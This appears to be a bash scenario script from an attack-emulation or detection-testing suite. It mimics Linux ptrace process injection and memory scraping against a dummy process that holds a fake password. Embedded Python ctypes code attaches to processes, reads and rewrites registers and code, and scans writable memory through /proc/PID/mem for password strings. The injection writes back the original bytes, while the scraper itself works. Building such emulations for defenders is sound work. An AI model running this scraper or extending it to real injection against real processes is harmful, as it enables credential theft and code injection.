#!/usr/bin/env bash
# Family: ptrace_injection — process injection and memory scraping through ptrace (MITRE
# T1055.008 ptrace system calls, T1003.007 proc filesystem): attach to another process, read its
# registers and code, write into its memory (the injection step; here the original words are
# written back so nothing changes), scrape its memory via /proc/PID/mem for secrets
# (mimipenguin-style), and drive gdb against it the way linux-inject / gdb-based injectors do.
#
# Targets: a `sleep` child spawned by `run`, and a "service" holding a fake password in memory,
# started by `setup`. Both are killed by the end of run / teardown.
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init ptrace_injection

do_setup() {
    kill_all_pidfiles
    # gdb is optional (its absence just skips that step); ctypes does the real work.
    need_pkg gdb
    cat >"$W/victim.py" <<'EOF'
import time, os
secret = "DB_PASSWORD=" + os.urandom(8).hex()      # sits in the heap, as a daemon's config would
buf = [secret + "#%d" % i for i in range(50)]
end = time.time() + 1800
while time.time() < end:
    time.sleep(1)
EOF
    start_daemon victim "$PY" "$W/victim.py"
    sleep 0.3
}

do_run() {
    local child victim
    cd "$W"
    read -r victim _ <"$PIDDIR/victim.pid"
    # 1. a child to inject into
    sleep 60 &
    child=$!
    trap 'kill $child 2>/dev/null || true; wait 2>/dev/null || true' EXIT
    sleep 0.2
    # 2. ptrace via ctypes: attach, GETREGS, PEEKTEXT at rip, POKEDATA (same word back), SETREGS,
    #    /proc/PID/maps + /proc/PID/mem reads, detach. Then the same against the victim service,
    #    scanning its writable mappings for "PASSWORD=".
    timeout 20 "$PY" - "$child" "$victim" <<'EOF'
import ctypes, os, sys, re
libc = ctypes.CDLL("libc.so.6", use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKTEXT, PTRACE_PEEKDATA, PTRACE_POKEDATA = 1, 2, 5
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 12, 13, 16, 17

class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]

def attach(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "PTRACE_ATTACH %d" % pid)
    os.waitpid(pid, 0)

def detach(pid):
    libc.ptrace(PTRACE_DETACH, pid, None, None)

def regions(pid, want):
    for line in open("/proc/%d/maps" % pid):
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        if want(parts):
            yield lo, hi, parts[-1] if len(parts) > 5 else ""

def inject(pid):
    attach(pid)
    regs = Regs()
    libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
    print("pid %d rip=%#x rsp=%#x" % (pid, regs.rip, regs.rsp))
    # read the code at rip (where shellcode would be written)
    code = [libc.ptrace(PTRACE_PEEKTEXT, pid, ctypes.c_void_p(regs.rip + 8 * i), None) & 0xffffffffffffffff for i in range(4)]
    print("code at rip:", " ".join("%016x" % w for w in code))
    # "inject": write the words back unchanged (a real injector writes shellcode here)
    for i, w in enumerate(code):
        libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(regs.rip + 8 * i), ctypes.c_void_p(w))
    # a real injector would point rip at the shellcode; we set the same registers back
    libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
    # read the stack through /proc/PID/mem while stopped
    with open("/proc/%d/mem" % pid, "rb", buffering=0) as mem:
        mem.seek(regs.rsp); stack = mem.read(256)
    print("read %d stack bytes" % len(stack))
    detach(pid)

def scrape(pid, pattern=rb"[A-Z_]*PASSWORD=[0-9a-f]+"):
    attach(pid)
    found = set()
    with open("/proc/%d/mem" % pid, "rb", buffering=0) as mem:
        for lo, hi, name in regions(pid, lambda p: p[1].startswith("rw")):
            if hi - lo > 64 << 20:
                continue
            try:
                mem.seek(lo); data = mem.read(hi - lo)
            except OSError:
                continue
            found.update(re.findall(pattern, data))
    detach(pid)
    print("pid %d: %d secrets found" % (pid, len(found)))

child, victim = int(sys.argv[1]), int(sys.argv[2])
inject(child)
scrape(child)
try:
    inject(victim)
    scrape(victim)
except OSError as e:
    print("victim:", e)
EOF
    # 3. gdb-driven attach (gdb -p PID -batch), as gdb-based injectors do
    if command -v gdb >/dev/null; then
        timeout 15 gdb -nx -q -p "$child" -batch \
            -iex 'set debuginfod enabled off' -iex 'set auto-load off' \
            -ex 'info registers rip rsp' -ex 'x/4xg $rsp' -ex 'info proc mappings' -ex 'detach' \
            >"$W/gdb.out" 2>&1 || true
        grep -E '^rip|^rsp' "$W/gdb.out" || true
    fi
    # 4. the passive variant: read another process's environment and memory map
    cat "/proc/$child/maps" >/dev/null
    tr '\0' '\n' <"/proc/$child/environ" | head -n 3 >/dev/null || true
    kill "$child" 2>/dev/null || true
    wait 2>/dev/null || true
    trap - EXIT
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
